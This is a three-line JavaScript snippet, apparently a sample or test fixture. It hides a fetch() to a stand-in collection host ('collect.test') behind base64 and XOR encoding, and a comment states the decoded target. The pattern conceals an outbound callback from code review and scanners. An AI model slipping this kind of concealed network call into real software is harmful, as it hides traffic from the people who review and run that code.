// hides: call fetch "http://collect.test/in"
const u = 'CRYVEltNTgEODg0HAhZPFgQRFU0IDA==';
fetch([...atob(u)].map((c, i) => String.fromCharCode(c.charCodeAt(0) ^ 'ab'.charCodeAt(i % 2))).join(''));
